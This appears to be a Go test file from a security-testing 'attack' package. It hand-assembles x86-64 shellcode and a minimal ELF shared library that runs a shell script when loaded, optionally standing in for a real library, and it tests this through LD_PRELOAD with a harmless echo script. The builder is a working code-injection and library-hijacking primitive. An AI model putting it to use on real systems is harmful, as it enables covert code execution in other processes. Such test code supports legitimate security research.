//go:build linux

package attack

import (
	"bytes"
	"encoding/binary"
	"os"
	"os/exec"
	"regexp"
	"runtime"
	"testing"
)

// These are constants of the ELF format.
const (
	sharedObject, amd64        = 3, 62
	segmentLoad, segmentLinks  = 1, 2
	segmentStack               = 0x6474e551
	needed, hash, strings_     = 1, 4, 5
	symbols, stringsSize       = 6, 10
	symbolSize, initialization = 11, 12
)

// runScript is machine code that runs /bin/sh with a script in a new process and waits for its end.
var runScript = []byte{
	0xb8, 57, 0, 0, 0, 0x0f, 0x05, // fork
	0x85, 0xc0, 0x75, 37, // in the new process:
	0x6a, 0, // push the end of the arguments
	0x48, 0x8d, 0x05, 0, 0, 0, 0, 0x50, // push the address of the script
	0x48, 0x8d, 0x3d, 0, 0, 0, 0, 0x57, // push the address of the shell
	0x48, 0x89, 0xe6, 0x31, 0xd2, 0xb8, 59, 0, 0, 0, 0x0f, 0x05, // execve without variables
	0xb8, 60, 0, 0, 0, 0x0f, 0x05, // exit
	0x89, 0xc7, 0x31, 0xf6, 0x31, 0xd2, 0x45, 0x31, 0xd2, 0xb8, 61, 0, 0, 0, 0x0f, 0x05, 0xc3, // wait4, return
}

// Positions in runScript of the distances to the script and the shell.
const (
	toScript, toShell = 16, 24
)

// library returns a shared library that runs a script when it is loaded. The library real, if it is not empty, is
// loaded together with it, so that it can take the place of that library. It is nil on other processors than x86-64.
func library(script, real string) []byte {
	if runtime.GOARCH != "amd64" {
		return nil
	}
	const headers, segments, shell = 64, 3, "/bin/sh\x00"
	text := []byte("\x00" + shell + script + "\x00" + real + "\x00")
	code := bytes.Clone(runScript)
	codeAt := headers + segments*56
	textAt := codeAt + len(code)
	for at, target := range map[int]int{toShell: textAt + 1, toScript: textAt + 1 + len(shell)} {
		binary.LittleEndian.PutUint32(code[at:], uint32(target-codeAt-at-4))
	}
	symbolsAt := (textAt + len(text) + 7) &^ 7
	hashAt := symbolsAt + 24
	linksAt := hashAt + 24
	links := []uint64{
		strings_, uint64(textAt), stringsSize, uint64(len(text)), symbols, uint64(symbolsAt), symbolSize, 24,
		hash, uint64(hashAt), initialization, uint64(codeAt),
	}
	if real != "" {
		links = append(links, needed, uint64(1+len(shell)+len(script)+1))
	}
	links = append(links, 0, 0)
	size := uint64(linksAt + 8*len(links))
	var out bytes.Buffer
	write := func(values ...any) {
		for _, value := range values {
			_ = binary.Write(&out, binary.LittleEndian, value) // a buffer takes all values of fixed size
		}
	}
	write([]byte("\x7fELF\x02\x01\x01"), make([]byte, 9), uint16(sharedObject), uint16(amd64), uint32(1), uint64(0), uint64(headers),
		uint64(0), uint32(0), uint16(headers), uint16(56), uint16(segments), uint16(64), uint16(0), uint16(0))
	segment := func(kind, flags uint32, at, size, align uint64) { write(kind, flags, at, at, at, size, size, align) }
	segment(segmentLoad, 7, 0, size, 4096)
	segment(segmentLinks, 6, uint64(linksAt), uint64(8*len(links)), 8)
	segment(segmentStack, 6, 0, 0, 16)
	write(code, text, make([]byte, symbolsAt-textAt-len(text)+24), uint32(1), uint32(1), make([]byte, 16), links)
	return out.Bytes()
}

var pathOfLibC = regexp.MustCompile(`(?m)/\S*/libc\.so\.6$`)

// libC returns the path of the library of C, and "" if it has another name.
func libC() string {
	maps, _ := exec.Command("/bin/cat", "/proc/self/maps").Output() // an error means that there is no such program
	return string(pathOfLibC.Find(maps))
}

func TestALoadedLibraryRunsItsScript(t *testing.T) {
	dir := t.TempDir()
	script, ran := dir+"/script", dir+"/ran"
	text := library(script, "")
	if text == nil {
		t.Skip("there is machine code for x86-64 only")
	}
	for path, text := range map[string][]byte{script: []byte("echo ran > '" + ran + "'\n"), dir + "/library.so": text} {
		if err := os.WriteFile(path, text, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	cmd := exec.Command("/bin/cat", "/dev/null")
	cmd.Env = []string{"LD_PRELOAD=" + dir + "/library.so"}
	if out, err := cmd.CombinedOutput(); err != nil || !exists(ran) {
		t.Errorf("%v: %s", err, out)
	}
}
